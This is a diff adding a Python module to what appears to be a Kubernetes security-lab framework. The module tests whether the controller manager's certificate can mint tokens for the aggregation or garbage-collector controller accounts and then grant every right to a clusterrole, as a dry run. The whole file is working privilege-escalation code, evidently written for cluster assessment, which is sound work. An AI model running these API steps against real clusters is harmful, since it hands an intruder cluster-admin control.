@@ -1,0 +1,151 @@
+"""Become cluster-admin with the controller manager's certificate: make a controller's token.
+
+Who may create tokens for every service account is every service account. With RBAC, one
+controller may give roles rights that it has not itself: it fills in aggregated roles. With
+ABAC, which knows no verbs, the garbage collector may do everything, as it deletes everything.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Sequence
+from typing import TYPE_CHECKING
+
+from labkit.cluster import Environment
+from labkit.errors import ProbeError
+from labkit.model import View
+from labkit.model.authorization import everything_for
+from labkit.model.rights import Action, service_account
+from labkit.techniques._access import (
+    CHANNEL,
+    EVERYTHING,
+    api_url,
+    apiserver_of,
+    everything_body,
+    may_all,
+)
+from labkit.techniques._base import ADMIN, OUTSIDE, Prediction, Technique
+from labkit.techniques._controllers import KIND, own_accounts, own_work
+from labkit.techniques._reach import request
+from labkit.techniques._verdict import Setting, Verdict
+from labkit.techniques._worker import MASTER, caller, carried
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+NAMESPACE, RBAC = "kube-system", "rbac.authorization.k8s.io"
+#: Whose token is worth most, by whether roles count.
+ACCOUNTS = {True: "clusterrole-aggregation-controller", False: "generic-garbage-collector"}
+#: A role that everybody has who has a name. It is only a dry run: nobody gets the rights.
+ROLE = "system:basic-user"
+GIVE = Action("patch", "clusterroles", RBAC, name=ROLE)
+ESCALATE = Action("escalate", "clusterroles", RBAC, name=ROLE)
+EVERY_RIGHT = [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}]
+TOKEN_REQUEST = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest"}
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether it may do everything, or whose token it may make."""
+    apiserver, manager = apiserver_of(view.env), caller(view.env, KIND, MASTER)
+    alone = everything_for(view.env, apiserver, manager.groups, manager.user)
+    if alone is not None and alone.value == "allow-all":
+        return Prediction(True, (str(alone),))
+    roles = _roles_count(view.env)
+    name = ACCOUNTS[roles]
+    token = Action("create", "serviceaccounts/token", namespace=NAMESPACE, name=name)
+    made = may_all(view, manager, [token])
+    if not made.succeeds:
+        return made
+    account = service_account(NAMESPACE, name, manager.claim.source)
+    if roles:
+        return may_all(view, account, [GIVE, ESCALATE])
+    powerful = everything_for(view.env, apiserver, account.groups, account.user)
+    if powerful is None:
+        return Prediction(False, (f"{account.user} may not do everything: {manager.claim}",))
+    return Prediction(True, (str(powerful),))
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Ask whether the manager may do everything; if not, be a controller that may."""
+    account = ACCOUNTS[_roles_count(lab.environment)]
+    with carried(lab, foothold, KIND, MASTER) as options:
+        alone = _may_everything(lab, foothold, options)
+        if alone:
+            evidence = ("asked the apiserver what the controller manager may do: everything",)
+            reason = "the manager itself may do everything"
+            return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, evidence)
+        path = f"/api/v1/namespaces/{NAMESPACE}/serviceaccounts/{account}/token"
+        asked = f"asked for a token of {NAMESPACE}/{account}: POST {path}"
+        body = json.dumps(TOKEN_REQUEST).encode()
+        made = request(lab, api_url(lab, path), foothold=foothold, body=body, options=options)
+        if made.refusal:
+            if made.refusal != "HTTP 403":
+                raise ProbeError(f"{TECHNIQUE.name}: {made.refusal} says nothing")
+            control = own_work(lab, foothold, options)
+            return Verdict(
+                TECHNIQUE.name, lab.mode, foothold, False, made.refusal, (asked,), control
+            )
+    bearer = f"Authorization: Bearer {json.loads(made.body)['status']['token']}"
+    return _as_account(lab, foothold, account, ["--header", bearer], asked)
+
+
+def _as_account(lab: Lab, foothold: str, account: str, options: list[str], asked: str) -> Verdict:
+    """See whether a controller's token is worth everything."""
+    if not _roles_count(lab.environment):
+        if not _may_everything(lab, foothold, options):
+            raise ProbeError(f"{account} may not do everything")
+        told = (asked, f"asked the apiserver what {account} may do: everything")
+        reason = f"{account} may do everything, and its token is there for the asking"
+        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, told)
+    path = f"/apis/{RBAC}/v1/clusterroles/{ROLE}?dryRun=All"
+    kind = ("--header", "Content-Type: application/merge-patch+json", "--request", "PATCH")
+    body = json.dumps({"rules": EVERY_RIGHT}).encode()
+    given = request(
+        lab, api_url(lab, path), foothold=foothold, body=body, options=[*kind, *options]
+    )
+    tried = f"with it, gave {ROLE} every right, as a dry run: PATCH {path}"
+    if given.refusal:
+        raise ProbeError(f"{account} may not change {ROLE}: {given.refusal}")
+    if json.loads(given.body)["rules"] != EVERY_RIGHT:
+        raise ProbeError(f"{ROLE} would not have every right")
+    reason = f"HTTP {given.status}, {account} gives what it has not, and its token is there to make"
+    return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, (asked, tried))
+
+
+def _may_everything(lab: Lab, foothold: str, options: Sequence[str]) -> bool:
+    url = api_url(lab, EVERYTHING)
+    answer = request(lab, url, foothold=foothold, body=everything_body(), options=options)
+    if answer.refusal:
+        raise ProbeError(f"the apiserver does not say what one may do: {answer.refusal}")
+    return bool(json.loads(answer.body)["status"].get("allowed"))
+
+
+def _roles_count(env: Environment) -> bool:
+    return "RBAC" in {item.value for item in apiserver_of(env).values("authorization-mode")}
+
+
+def _settings(env: Environment) -> list[Setting]:
+    return [own_accounts(env)]
+
+
+TECHNIQUE = Technique(
+    name="controller-manager-token",
+    title="Become cluster-admin with the controller manager's certificate",
+    footholds=(OUTSIDE,),
+    grants=(ADMIN,),
+    about=CHANNEL,
+    properties=("authorization",),
+    attack=("T1552.004", "T1098.006", "T1528"),
+    stride=("spoofing", "elevation of privilege"),
+    cwe=("CWE-250", "CWE-269"),
+    sources=(
+        "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#token-request",
+        "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#controller-roles",
+        "https://attack.mitre.org/techniques/T1098/006/",
+    ),
+    predict=predict,
+    execute=execute,
+    settings=_settings,
+)
